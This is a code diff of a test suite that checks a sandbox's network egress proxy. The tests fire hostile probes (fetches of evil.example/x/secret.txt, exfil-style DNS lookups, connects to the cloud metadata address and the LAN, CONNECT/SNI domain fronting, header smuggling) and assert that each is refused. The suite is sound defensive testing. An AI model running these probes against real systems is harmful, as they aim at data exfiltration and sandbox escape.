@@ -62,33 +62,188 @@ describe('egress', suite({ timeout: 900000 }), () => {
   });
 
   test('git_clone over https comes from the test forge', async () => {
-    const r = await srv.ok('git_clone', { session_id: sid, url: 'https://github.com/org/demo.git', dest: 'demo' },
+    const r = await srv.ok('git_clone', { session_id: sid, repo_url: 'https://github.com/org/demo.git', path: 'demo' },
       { timeoutMs: 120000 });
     assert.ok(r, show(r));
-    const f = await srv.ok('file_read', { session_id: sid, path: 'demo/README.md' });
-    assert.match(JSON.stringify(f), /a repository on the test forge/);
+    const f = await srv.sh('cat demo/README.md', { session_id: sid });
+    assert.equal(f.stdout, 'a repository on the test forge\n');
   });
 
   test('without egress the same calls fail clearly', async () => {
     const p = await srv.fails('pip_install', { session_id: bare, packages: ['numpy==99.0.0'] }, 'network_disabled');
     assert.match(p.error.message, /egress/);
-    const g = await srv.fails('git_clone', { session_id: bare, url: 'https://github.com/org/demo.git', dest: 'demo' },
+    const g = await srv.fails('git_clone', { session_id: bare, repo_url: 'https://github.com/org/demo.git', path: 'demo' },
       'git_failed');
     assert.match(g.error.message, /no network/);
   });
 
   test('a host outside the policy gets a 403 naming it and the policy', async () => {
-    const out = await srv.ok('run_command', {
-      session_id: sid, command: 'curl -sS -o /dev/null -w "%{http_code}" https://evil.example/x/secret.txt; echo " rc=$?"; ' +
-        'curl -sS http://evil.example/x/secret.txt',
-    }, { timeoutMs: 60000 });
-    assert.match(out.stdout, /403 rc=56|rc=56/, show(out));
-    assert.match(out.stdout, /evil\.example:80 is not allowed by this session's egress policy \(allowed: pypi\.org/, show(out));
+    const r = await py(sid, `${PROBE}
+print(json.dumps([fetch('https://evil.example/x/secret.txt'), fetch('http://evil.example/x/secret.txt')]))`);
+    assert.match(r[0], /403 Forbidden/, JSON.stringify(r));
+    assert.match(r[1], /^403 .*evil\.example:80 is not allowed by this session's egress policy \(allowed: pypi\.org/, JSON.stringify(r));
     assert.deepEqual(net.seen('evil'), []);
     const st = await srv.ok('session_egress', { session_id: sid });
     const refused = st.log.find((e) => e.host === 'evil.example' && e.verdict === 'refused');
-    assert.ok(refused && refused.count >= 2, JSON.stringify(st.log));
+    assert.ok(refused && refused.count >= 1, JSON.stringify(st.log));
     const allowed = st.log.find((e) => e.host === 'pypi.org' && e.verdict === 'allowed');
     assert.ok(allowed && allowed.bytes_in > 0, JSON.stringify(st.log));
+    const listed = (await srv.ok('session_list', {})).sessions.find((x) => x.session_id === sid);
+    assert.equal(listed.egress.relay, 'up');
+    assert.ok(listed.egress.policy.includes('pypi.org:443/80'), JSON.stringify(listed.egress));
+  });
+
+  test('hostile: the sandbox has no route but the proxy (host, LAN, metadata, IPv6, UDP, raw, DNS)', async () => {
+    const r = await py(sid, `
+import json, socket, errno
+out = {}
+def tcp(name, fam, addr):
+    s = socket.socket(fam, socket.SOCK_STREAM); s.settimeout(3)
+    try:
+        s.connect(addr); out[name] = 'connected'
+    except OSError as e:
+        out[name] = errno.errorcode.get(e.errno, str(e))
+    finally:
+        s.close()
+tcp('inet', socket.AF_INET, ('${net.ip.evil}', 443))
+tcp('lan', socket.AF_INET, ('${net.ip.lan}', 443))
+tcp('gateway', socket.AF_INET, ('${net.inet.base}.1', ${net.hostPort}))
+tcp('metadata', socket.AF_INET, ('169.254.169.254', 80))
+tcp('v6', socket.AF_INET6, ('fd00::1', 443))
+try:
+    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.sendto(b'x', ('${net.ip.evil}', 53)); out['udp'] = 'sent'
+except OSError as e:
+    out['udp'] = errno.errorcode.get(e.errno, str(e))
+try:
+    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); out['raw'] = 'opened'
+except OSError as e:
+    out['raw'] = errno.errorcode.get(e.errno, str(e))
+try:
+    socket.getaddrinfo('exfil-1234.evil.example', 443); out['dns'] = 'resolved'
+except OSError as e:
+    out['dns'] = 'failed'
+out['ifaces'] = sorted(n for _, n in socket.if_nameindex())
+print(json.dumps(out))`);
+    for (const k of ['inet', 'lan', 'gateway', 'metadata', 'v6']) assert.equal(r[k], 'ENETUNREACH', `${k}: ${JSON.stringify(r)}`);
+    assert.equal(r.udp, 'ENETUNREACH', JSON.stringify(r));
+    assert.equal(r.raw, 'EPERM', JSON.stringify(r));
+    assert.equal(r.dns, 'failed', JSON.stringify(r));
+    assert.deepEqual(r.ifaces, ['lo'], JSON.stringify(r));
+    assert.equal(net.hostHits(), 0, 'the host service on 0.0.0.0 saw nothing');
+    assert.ok(!net.queries().some((q) => q.includes('exfil-1234')), `dnsmasq never heard of it: ${net.queries()}`);
+  });
+
+  test('hostile: names are judged before they are resolved, addresses after', async () => {
+    await srv.ok('session_egress', { session_id: sid, presets: ['pypi', 'github'],
+      allow: ['evil.example', 'lan.test', 'private.test', 'metadata.test', 'loop.test'] });
+    const r = await py(sid, `${PROBE}
+print(json.dumps({
+  'exfil': fetch('https://exfil-5678.evil.example/'),
+  'private': fetch('https://private.test/'),
+  'metadata': fetch('http://metadata.test/latest/meta-data/'),
+  'loop': fetch('http://loop.test:80/'),
+  'literal': fetch('https://${net.ip.pypi}/simple/'),
+  'literal_http': fetch('http://${net.ip.pypi}/simple/'),
+}))`);
+    assert.match(r.exfil, /403/, JSON.stringify(r));
+    assert.ok(!net.queries().some((q) => q.includes('exfil-5678')), 'a refused name is never looked up');
+    assert.match(r.private, /403/, JSON.stringify(r));
+    assert.match(r.metadata, /^403 .*metadata\.test resolves only to addresses egress never reaches: link-local/, JSON.stringify(r));
+    assert.match(r.loop, /^403 .*loopback/, JSON.stringify(r));
+    assert.match(r.literal_http, /^403 .*is an address/, JSON.stringify(r));
+    assert.match(r.literal, /403/, JSON.stringify(r));
+    assert.deepEqual(net.seen('lan'), [], 'the LAN canary saw nothing');
+  });
+
+  test('hostile: CONNECT and SNI must agree, a tunnel carries TLS, Host names the URL host', async () => {
+    const r = await py(sid, `${PROBE}
+import ssl
+def tunnel(host, sni, payload=None):
+    s = socket.create_connection(('127.0.0.1', 3128), timeout=10)
+    s.sendall(f'CONNECT {host}:443 HTTP/1.1\\r\\nHost: {host}:443\\r\\n\\r\\n'.encode())
+    head = s.recv(4096).decode(errors='replace')
+    if not head.startswith('HTTP/1.1 200'):
+        return head.split('\\r\\n')[0]
+    if payload is not None:
+        s.sendall(payload)
+        try:
+            return 'answer ' + s.recv(100).hex()
+        except OSError as e:
+            return 'error ' + str(e)
+    ctx = ssl.create_default_context()
+    try:
+        t = ctx.wrap_socket(s, server_hostname=sni)
+        t.sendall(f'GET / HTTP/1.1\\r\\nHost: {sni}\\r\\nConnection: close\\r\\n\\r\\n'.encode())
+        return 'tls ' + t.recv(100).decode(errors='replace').split('\\r\\n')[0]
+    except (ssl.SSLError, OSError) as e:
+        return 'error ' + str(e)
+def raw(req):
+    s = socket.create_connection(('127.0.0.1', 3128), timeout=10)
+    s.sendall(req)
+    return s.recv(4096).decode(errors='replace').split('\\r\\n')[0]
+print(json.dumps({
+  'same': tunnel('pypi.org', 'pypi.org'),
+  'fronted': tunnel('pypi.org', 'evil.example'),
+  'not_tls': tunnel('pypi.org', None, b'SSH-2.0-OpenSSH_9.2\\r\\n'),
+  'host_mismatch': raw(b'GET http://pypi.org/simple/ HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n'),
+  'origin_form': raw(b'GET /simple/ HTTP/1.1\\r\\nHost: pypi.org\\r\\n\\r\\n'),
+  'huge': raw(b'GET http://pypi.org/ HTTP/1.1\\r\\nX: ' + b'a' * 20000 + b'\\r\\n\\r\\n'),
+  'long_name': raw(b'CONNECT ' + b'a' * 300 + b'.pypi.org:443 HTTP/1.1\\r\\n\\r\\n'),
+  'port': raw(b'CONNECT pypi.org:22 HTTP/1.1\\r\\n\\r\\n'),
+}))`);
+    assert.equal(r.same, 'tls HTTP/1.0 200 OK', JSON.stringify(r));
+    assert.match(r.fronted, /error .*(alert|ACCESS_DENIED|access denied)/i, JSON.stringify(r));
+    assert.match(r.not_tls, /^answer 15030300020231$|^error/, JSON.stringify(r));
+    assert.match(r.host_mismatch, /^HTTP\/1.1 400/, JSON.stringify(r));
+    assert.match(r.origin_form, /^HTTP\/1.1 400/, JSON.stringify(r));
+    assert.match(r.huge, /^HTTP\/1.1 431/, JSON.stringify(r));
+    assert.match(r.long_name, /^HTTP\/1.1 (400|403)/, JSON.stringify(r));
+    assert.match(r.port, /^HTTP\/1.1 403/, JSON.stringify(r));
+    const pypiSni = net.seen('pypi').map((x) => x.sni);
+    assert.ok(!pypiSni.includes('evil.example'), 'the fronted hello never reached the origin');
+  });
+
+  test('the policy changes on the live session: new connections at once, open ones to a removed host closed', async () => {
+    const st = await srv.ok('session_egress', { session_id: sid, presets: ['pypi', 'github'] });
+    assert.ok(!st.policy.includes('evil.example:443/80'), JSON.stringify(st.policy));
+    // a connection held open to github.com, then github is taken away
+    const job = srv.ok('run_command', { session_id: sid, command: `python3 - <<'EOF'
+import socket, time, json
+s = socket.create_connection(('127.0.0.1', 3128), timeout=30)
+s.sendall(b'CONNECT github.com:443 HTTP/1.1\\r\\n\\r\\n')
+print(s.recv(100).split(b'\\r\\n')[0].decode(), flush=True)
+t0 = time.time()
+try:
+    d = s.recv(100)
+    print(json.dumps({'closed': d == b'', 'after': time.time() - t0}))
+except OSError as e:
+    print(json.dumps({'closed': True, 'after': time.time() - t0, 'error': str(e)}))
+EOF` }, { timeoutMs: 60000 });
+    await sleep(1500);
+    const t0 = Date.now();
+    await srv.ok('session_egress', { session_id: sid, presets: ['pypi'] });
+    const ms = Date.now() - t0;
+    const out = await job;
+    const lines = out.stdout.trim().split('\n');
+    assert.equal(lines[0], 'HTTP/1.1 200 Connection established', show(out));
+    const res = JSON.parse(lines[1]);
+    assert.ok(res.closed, show(out));
+    const r = await py(sid, `${PROBE}
+print(json.dumps(fetch('https://github.com/org/demo.git/info/refs')))`);
+    assert.match(r, /403/, r);
+    assert.ok(ms < 2000, `the change took ${ms} ms`);
   });
 });
+
+// Python for the sandbox: fetch(url) through the proxy variables, as any program would; "status first line of body"
+const PROBE = `
+import json, socket, urllib.request, urllib.error
+def fetch(url):
+    try:
+        with urllib.request.urlopen(url, timeout=20) as r:
+            return f'{r.status} ' + r.read(200).decode(errors='replace')
+    except urllib.error.HTTPError as e:
+        return f'{e.code} ' + e.read(400).decode(errors='replace')
+    except Exception as e:
+        return f'error {e}'
+`;
